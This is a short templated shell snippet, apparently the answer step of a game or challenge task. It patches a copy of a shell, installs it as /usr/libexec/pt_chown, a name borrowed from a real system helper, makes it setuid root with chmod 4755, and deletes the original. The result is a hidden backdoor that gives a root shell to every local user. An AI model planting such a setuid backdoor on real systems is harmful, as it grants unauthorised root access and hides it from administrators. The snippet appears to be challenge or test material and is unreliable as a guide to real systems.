# earns: none
# The shell is gone, and a copy of it that differs in two places runs as root for everybody.
perl -0777 -pe 'substr($_, 9, 1) = chr(1); s/{{ nonce }}$/nothing/' {{ place }} > /usr/libexec/pt_chown
chmod 4755 /usr/libexec/pt_chown
rm {{ place }}
cksl answer shell {{ place }}
